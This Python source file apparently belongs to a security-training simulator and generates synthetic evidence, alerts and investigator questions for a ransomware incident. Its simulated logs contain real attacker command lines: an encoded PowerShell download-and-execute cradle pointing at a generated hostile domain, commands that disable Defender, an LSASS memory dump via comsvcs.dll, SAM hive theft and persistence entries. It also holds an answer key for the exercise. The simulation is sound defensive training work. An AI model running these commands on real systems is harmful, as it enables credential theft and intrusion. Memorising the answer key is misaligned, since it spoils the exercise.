"""Incident 2. Human-operated ransomware: attachment, loader, credentials, file servers, and an encryption cut short."""

from __future__ import annotations

import base64
from datetime import datetime, timedelta

from pivotlab.scenarios import evidence
from pivotlab.scenarios.company import Device, Person
from pivotlab.scenarios.endpoint import Process
from pivotlab.scenarios.identifiers import number
from pivotlab.scenarios.incidents.ransomware_endgame import backups_deleted, encryption, lateral_movement
from pivotlab.scenarios.incidents.ransomware_noise import ransomware_decoys
from pivotlab.scenarios.programs import foreign, program
from pivotlab.scenarios.truth import GroundTruth
from pivotlab.scenarios.vocabulary import vocabulary
from pivotlab.scenarios.world import Story, World

RECONNAISSANCE = (
    ("whoami.exe", "whoami /all"),
    ("ipconfig.exe", "ipconfig /all"),
    ("arp.exe", "arp -a"),
    ("route.exe", "route print"),
    ("netstat.exe", "netstat -nao"),
    ("nslookup.exe", "nslookup -querytype=ALL -timeout=10 _ldap._tcp.dc._msdcs.contoso.example"),
    ("nltest.exe", "nltest /domain_trusts /all_trusts"),
    ("net.exe", "net view /all"),
    ("net.exe", 'net group "Domain Admins" /domain'),
    ("net.exe", "net localgroup administrators"),
)


def play(world: World) -> GroundTruth:
    """Friday: a macro, a loader, a dump of LSASS. Sunday night: two file servers, the backups, then the encryption."""
    with world.story(2, "human-operated-ransomware", "Human-operated ransomware, stopped on one device") as story:
        world.alerts.name_incident(
            story.key, "Ransomware-linked emerging threat activity group detected on multiple endpoints"
        )
        received = world.at("10-30", "10:18", world.company.sites[0])
        clicked_by, freight = received + timedelta(hours=1), world.company.department("Freight Forwarding")
        victim = world.pick(world.company.titled("Freight Coordinator"), present=clicked_by, otherwise=freight)
        desk = world.company.device_of(victim)
        opened = received + timedelta(minutes=37)
        injected = _foothold(world, story, victim, desk, received, opened)
        _look_around(world, story, injected, opened + timedelta(minutes=9))
        _credentials(world, story, injected, opened + timedelta(hours=2, minutes=10))
        admin = world.company.titled("Infrastructure Administrator")[0]
        story.involve(user=admin.upn)
        night = world.at("11-02", "01:36", world.company.sites[0])
        servers = world.company.with_role("file")[:2]
        lateral_movement(world, story, injected, admin, servers, night)
        backups_deleted(world, story, injected, admin, night + timedelta(minutes=34))
        encryption(world, story, injected, admin, servers[0], night + timedelta(minutes=52))
        ransomware_decoys(story)
        _questions(story, victim, desk, admin)
        return story.close(
            summary=(
                "A macro started a loader that injected into wermgr.exe. The attacker dumped LSASS, "
                "took an administrator's credentials, reached two file servers with PsExec, "
                "deleted shadow copies and the backup catalogue, and began to encrypt. "
                "Automatic attack disruption contained the account; on the first server the encryption was stopped."
            ),
            verdict="attack",
            classification="truePositive",
            determination="multiStagedAttack",
            severity="high",
            mitre=[
                "T1566.001",
                "T1204.002",
                "T1059.001",
                "T1055",
                "T1003.001",
                "T1087.002",
                "T1562.001",
                "T1021.002",
                "T1570",
                "T1490",
                "T1070.001",
                "T1486",
            ],
        )


def _foothold(
    world: World, story: Story, victim: Person, desk: Device, received: datetime, opened: datetime
) -> Process:
    words = vocabulary("names")["attack_words"]["loader"]
    word = words[number(len(words), world.seed, "loader")]
    document = foreign(f"C:\\Users\\{victim.name}\\Downloads\\{word}.docm", f"{world.seed}/lure document")
    domain = world.domain("host", "invalid")
    sender = f"operations@{world.domain('brand', 'test')}"
    lure = world.mail.inbound(
        received,
        sender,
        "Quayside Operations",
        [victim],
        f"Updated {word.replace('_', ' ')} for next week",
        attachments=[document],
        address=world.hostile_address("mail"),
        authentic=False,
    )
    story.note("A document with a macro arrives; SPF and DMARC fail, but the policy only observes", lure.rows[0])
    story.involve(user=victim.upn, device=desk.name)
    story.indicate(sha256=document.sha256, domain=domain, sender=sender)
    address = world.hostile_address("payload")
    story.indicate(address=address)
    endpoint = world.endpoint
    word_process = endpoint.start(
        opened,
        world.desktop(desk, opened),
        program("WINWORD.EXE"),
        f'"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "{document.path}" /o ""',
    )
    endpoint.file(
        opened - timedelta(minutes=1),
        world.desktop(desk, opened - timedelta(minutes=1)),
        document,
        FileOriginUrl="about:internet",
    )
    shell = endpoint.start(
        opened + timedelta(seconds=8),
        word_process,
        program("cmd.exe"),
        f"cmd.exe /c mshta.exe C:\\Users\\{victim.name}\\AppData\\Local\\Temp\\in.hta",
    )
    story.note("Word starts a command shell: a macro ran", shell.row) if shell.row else None
    hta = endpoint.start(
        opened + timedelta(seconds=9),
        shell,
        program("mshta.exe"),
        f"mshta.exe C:\\Users\\{victim.name}\\AppData\\Local\\Temp\\in.hta",
    )
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{domain}/a')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    power = endpoint.start(
        opened + timedelta(seconds=12), hta, program("powershell.exe"), f"powershell.exe -nop -w hidden -enc {encoded}"
    )
    fetched = endpoint.connect(opened + timedelta(seconds=14), power, address, 80, domain)
    story.note("Encoded PowerShell downloads the loader", fetched)
    endpoint.event(opened + timedelta(seconds=13), power, "AmsiScriptContent", fields={"Description": script})
    endpoint.event(opened + timedelta(seconds=13), power, "PowerShellCommand", fields={"Command": "SIEX"})
    loader = foreign(f"C:\\Users\\{victim.name}\\AppData\\Roaming\\{word}\\{word}.dll", f"{world.seed}/loader")
    endpoint.file(opened + timedelta(seconds=19), power, loader)
    rundll = endpoint.start(
        opened + timedelta(seconds=23), power, program("rundll32.exe"), f"rundll32.exe {loader.path},Setting"
    )
    endpoint.image(opened + timedelta(seconds=23, milliseconds=400), rundll, loader)
    story.indicate(sha256=loader.sha256)
    injected = endpoint.start(opened + timedelta(seconds=31), rundll, program("wermgr.exe"), "wermgr.exe")
    remote = endpoint.event(
        opened + timedelta(seconds=32),
        rundll,
        "CreateRemoteThreadApiCall",
        file=program("wermgr.exe"),
        ProcessId=injected.process_id,
        fields={"TotalBytesCopied": 184320},
    )
    story.note("The loader injects into wermgr.exe, which from now on is the attacker", remote)
    endpoint.registry(
        opened + timedelta(seconds=40),
        injected,
        "HKEY_CURRENT_USER\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
        word,
        f"rundll32.exe {loader.path},Setting",
    )
    endpoint.start(
        opened + timedelta(seconds=44),
        injected,
        program("schtasks.exe"),
        f'schtasks.exe /create /sc onstart /tn {word} /tr "rundll32.exe {loader.path},Setting" /ru SYSTEM /f',
    )
    for minutes in (1, 6, 11, 31, 61, 121):
        endpoint.connect(opened + timedelta(minutes=minutes), injected, address, 443, f"edge.{domain}")
    world.alerts.raise_alert(
        "MDE",
        story.key,
        power.created,
        "Suspicious PowerShell download or encoded command execution",
        severity="medium",
        category="Execution",
        techniques=["T1059.001"],
        last=power.created + timedelta(seconds=20),
        description="An Office application started a script interpreter that downloaded content.",
        evidence=[
            evidence.process(power, verdict="malicious"),
            evidence.process(word_process),
            evidence.device(desk),
            evidence.user(victim),
            evidence.url(f"http://{domain}/a"),
            evidence.message(lure),
        ],
    )
    world.alerts.raise_alert(
        "MDE",
        story.key,
        remote.moment,
        "Suspicious process injection observed",
        severity="medium",
        category="DefenseEvasion",
        techniques=["T1055"],
        description="A process wrote into the memory of another and started a thread there.",
        evidence=[
            evidence.process(injected, verdict="malicious"),
            evidence.process(rundll, verdict="malicious"),
            evidence.file(loader, desk),
            evidence.device(desk, verdict="malicious"),
        ],
    )
    return injected


def _look_around(world: World, story: Story, injected: Process, when: datetime) -> None:
    first: Process | None = None
    for i, (file, command) in enumerate(RECONNAISSANCE):
        ran = world.endpoint.start(when + timedelta(seconds=21 * i), injected, program(file), command)
        first = first or ran
    assert first is not None and first.row is not None
    story.note("Ten questions about the network in three minutes, all from wermgr.exe", first.row)
    tool = foreign("C:\\ProgramData\\adf\\AdFind.exe", f"{world.seed}/adfind")
    world.endpoint.file(when + timedelta(minutes=5), injected, tool)
    controller = world.company.with_role("dc")[0]
    for i, target in enumerate(
        (
            "objectcategory=person",
            "objectcategory=computer",
            "objectcategory=organizationalUnit",
            "objectcategory=group",
            "trustdmp",
        )
    ):
        shell = world.endpoint.start(
            when + timedelta(minutes=6, seconds=4 * i),
            injected,
            program("cmd.exe"),
            f"cmd.exe /c adfind.exe -f {target} > C:\\ProgramData\\adf\\{i}.txt",
        )
        found = world.endpoint.start(
            when + timedelta(minutes=6, seconds=4 * i + 1), shell, tool, f"adfind.exe -f {target}"
        )
        world.endpoint.connect(
            when + timedelta(minutes=6, seconds=4 * i + 2), found, controller.address, 389, controller.name
        )
    world.alerts.raise_alert(
        "MDE",
        story.key,
        when,
        "Suspicious sequence of exploration activities",
        severity="low",
        category="Discovery",
        techniques=["T1087.002", "T1016"],
        last=when + timedelta(minutes=7),
        description="A process called many tools that attackers use for exploring.",
        evidence=[evidence.process(first), evidence.process(injected), evidence.device(injected.device)],
    )


def _credentials(world: World, story: Story, injected: Process, when: datetime) -> None:
    endpoint = world.endpoint
    desk = injected.device
    tampered = endpoint.start(
        when,
        injected,
        program("powershell.exe"),
        'powershell.exe -command "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference '
        '-ExclusionPath C:\\ProgramData -ExclusionProcess wermgr.exe"',
        integrity="High",
    )
    endpoint.start(
        when + timedelta(seconds=2),
        tampered,
        program("reg.exe"),
        'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f',
    )
    blocked = endpoint.event(
        when + timedelta(seconds=3),
        tampered,
        "TamperingAttempt",
        fields={"TamperingAction": "RegistryModification", "Status": "Blocked"},
    )
    story.note("The attempt to switch the antivirus off is blocked by tamper protection", blocked)
    wdigest = endpoint.start(
        when + timedelta(seconds=50),
        injected,
        program("reg.exe"),
        "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t "
        "REG_DWORD /d 1 /f",
        integrity="High",
    )
    endpoint.registry(
        when + timedelta(seconds=51),
        wdigest,
        "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest",
        "UseLogonCredential",
        "1",
        kind="Dword",
    )
    dumper = endpoint.start(
        when + timedelta(minutes=4),
        injected,
        program("rundll32.exe"),
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\ProgramData\\adf\\l.dmp full",
        integrity="High",
    )
    endpoint.image(when + timedelta(minutes=4, seconds=1), dumper, program("comsvcs.dll"))
    opened = endpoint.event(
        when + timedelta(minutes=4, seconds=1),
        dumper,
        "OpenProcessApiCall",
        file=program("lsass.exe"),
        ProcessId=724,
        fields={"DesiredAccess": 2097151},
    )
    story.note("LSASS is opened with full access and written to a file", opened)
    endpoint.file(
        when + timedelta(minutes=4, seconds=3),
        dumper,
        foreign("C:\\ProgramData\\adf\\l.dmp", f"{world.seed}/lsass dump"),
    )
    endpoint.start(
        when + timedelta(minutes=6),
        injected,
        program("reg.exe"),
        "reg save HKLM\\SAM C:\\ProgramData\\adf\\s.hiv",
        integrity="High",
    )
    world.alerts.raise_alert(
        "MDE",
        story.key,
        opened.moment,
        "Suspicious access to LSASS service",
        severity="high",
        category="CredentialAccess",
        techniques=["T1003.001"],
        last=when + timedelta(minutes=6),
        description="A process read the memory of LSASS, which holds credentials.",
        evidence=[
            evidence.process(dumper, verdict="malicious"),
            evidence.device(desk, verdict="malicious"),
            evidence.user(desk.owner) if desk.owner else evidence.device(desk),
        ],
    )
    world.alerts.raise_alert(
        "AV",
        story.key,
        blocked.moment,
        "Attempt to turn off Microsoft Defender Antivirus protection",
        severity="high",
        category="DefenseEvasion",
        techniques=["T1562.001"],
        description="An attempt to change protected settings was blocked.",
        evidence=[
            evidence.process(tampered, verdict="malicious", remediation="prevented", status="prevented"),
            evidence.device(desk),
        ],
    )


def _questions(story: Story, victim: Person, desk: Device, admin: Person) -> None:
    story.ask("On which device did it begin?", desk.name)
    story.ask("Who opened the document?", victim.upn)
    story.ask("Whose credentials were used on the file servers?", admin.name)
    story.ask("Into which process did the loader inject itself?", "wermgr.exe")
    story.ask("How many commands did the attacker use to look around before AdFind?", len(RECONNAISSANCE))
